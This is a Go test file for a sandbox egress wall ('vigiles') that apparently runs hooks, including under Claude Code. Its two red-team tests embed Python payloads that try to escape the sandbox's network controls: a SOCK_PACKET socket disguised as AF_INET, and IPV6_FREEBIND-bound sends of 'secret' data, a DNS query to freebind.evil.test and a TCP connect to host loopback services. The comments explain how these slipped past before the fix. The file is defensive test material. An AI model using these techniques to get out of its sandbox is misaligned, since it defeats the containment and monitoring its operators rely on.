package escape

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// packetSocketer opens a socket as Linux 2.0's programs did,
// socket(AF_INET, SOCK_PACKET, 0), which the kernel makes an AF_PACKET
// socket before it checks anything: its frames go to a link's driver past
// every netfilter hook of IPv4 and IPv6, the egress wall's among them. It
// prints the errno of that call and of socketpair's alike.
const packetSocketer = `import socket, errno
for name, f in (("socket", lambda: socket.socket(socket.AF_INET, 10, 0)),
                ("socketpair", lambda: socket.socketpair(socket.AF_INET, 10, 0))):
    try:
        f()
        print(name, "OK")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))
`

// TestRedteam39PacketSocketThroughAFInetIsRefused: a hook's
// socket(AF_INET, SOCK_PACKET, 0), an AF_PACKET socket by another name,
// is refused by the seccomp filter as every family but AF_UNIX, AF_INET,
// AF_INET6 and AF_NETLINK is (EAFNOSUPPORT), in every mode, for every
// caller, and leaves the record recorded and empty. Before, the filter
// read the family AF_INET and let it through: the kernel asked for
// AF_PACKET's module where it is one and wrote the hook's name to the
// host's kernel log, and only the capability the hook lacks
// (CAP_NET_RAW) kept a socket that sends past the wall from opening
// (EPERM).
func TestRedteam39PacketSocketThroughAFInetIsRefused(t *testing.T) {
	requireBwrap(t)
	requireTools(t, "python3")
	for _, r := range runners(t) {
		for _, mode := range []string{"deny", "record"} {
			t.Run(r.name+"/"+mode, func(t *testing.T) {
				dir := workTree(t)
				res := vigiles(t, r, dir, nil, "--egress", mode, "--", "python3", "-c", packetSocketer)
				if want := "socket EAFNOSUPPORT\nsocketpair EAFNOSUPPORT\n"; res.Stdout != want {
					t.Errorf("stdout %q, want %q (stderr %q)", res.Stdout, want, res.Stderr)
				}
				var got struct {
					Egress []egressEntry `json:"egress"`
				}
				if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
					t.Fatal(err)
				}
				if got.Egress == nil || len(got.Egress) != 0 {
					t.Errorf("egress %+v: want recorded and empty", got.Egress)
				}
			})
		}
	}
}

// freebindSender sends from an address the sandbox does not hold, bound
// with IPV6_FREEBIND (no privilege needed), to the sandbox's loopback: a
// datagram to [::1]:4039, a DNS question to [::1]:53 and a TCP connect to
// [::1]:4040. Under Claude Code the host's kernel delivers the datagrams
// to whatever listens there on the host (a plain network namespace with
// nothing but lo up took the datagram: its service read it, from
// 2001:db8::39), and the SYN reaches the host's listener.
const freebindSender = `import socket, struct
def sock(kind, port):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    s.bind(("2001:db8::39", port))
    return s
def tryit(name, f):
    try:
        f()
        print(name, "sent")
    except OSError as e:
        print(name, e.strerror)
tryit("udp", lambda: sock(socket.SOCK_DGRAM, 5539).sendto(b"secret", ("::1", 4039)))
q = struct.pack("!HHHHHH", 0x3939, 0x0100, 1, 0, 0, 0) + b"\x08freebind\x04evil\x04test\x00" + struct.pack("!HH", 1, 1)
tryit("dns", lambda: sock(socket.SOCK_DGRAM, 5540).sendto(q, ("::1", 53)))
t = sock(socket.SOCK_STREAM, 5541)
t.settimeout(1)
tryit("tcp", lambda: t.connect(("::1", 4040)))
`

// TestRedteam39FreebindToLoopbackIsRecorded: a hook's datagram, DNS
// question and TCP connect to the sandbox's loopback from an address the
// sandbox does not hold (IPV6_FREEBIND) are each in the record, in every
// mode, for every caller: a loopback entry of the address and port
// tried, and the question's name, asked of ::1 port 53 rather than of the
// stub. Before, the wall dropped them unlogged (a packet from outside
// would pass for one, and the DNS stub's upstream socket once took one
// as its upstream's answer), so the record was empty and no-egress
// passed a hook whose datagram, under Claude Code, reaches the host's
// service at [::1]:4039 and whose question reaches a resolver of the
// host's there.
func TestRedteam39FreebindToLoopbackIsRecorded(t *testing.T) {
	requireBwrap(t)
	requireTools(t, "python3")
	for _, r := range runners(t) {
		for _, mode := range egressModes(r, "192.0.2.0/24") {
			t.Run(r.name+"/"+mode[0]+connectorOf(mode), func(t *testing.T) {
				dir := workTree(t)
				res := vigiles(t, r, dir, nil, append([]string{"--egress"}, append(mode, "--", "python3", "-c", freebindSender)...)...)
				if strings.Contains(res.Stdout, "Cannot assign") || strings.Contains(res.Stdout, "Invalid argument") {
					lacking(t, "IPV6_FREEBIND (Linux 4.15): "+res.Stdout)
				}
				var got struct {
					Egress []egressEntry `json:"egress"`
				}
				if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
					t.Fatal(err)
				}
				want := map[string]string{
					"loopback ::1 4039 udp ":        "",
					"loopback ::1 53 udp ":          "",
					"loopback ::1 4040 tcp ":        "",
					"dns  0 dns freebind.evil.test": "asked of ::1 port 53 directly, not of the sandbox's DNS stub",
				}
				for _, e := range got.Egress {
					k := fmt.Sprintf("%s %s %d %s %s", e.Via, e.IP, e.Port, e.Proto, e.Host)
					d, ok := want[k]
					if !ok {
						continue
					}
					if e.Detail != d || e.Attempts < 1 || e.Allowed {
						t.Errorf("%s: %+v, want detail %q, an attempt or more, not allowed", k, e, d)
					}
					delete(want, k)
				}
				for k := range want {
					t.Errorf("no entry %q\nstdout: %s\nstderr: %s\nrecord: %+v", k, res.Stdout, res.Stderr, got.Egress)
				}
			})
		}
	}
}
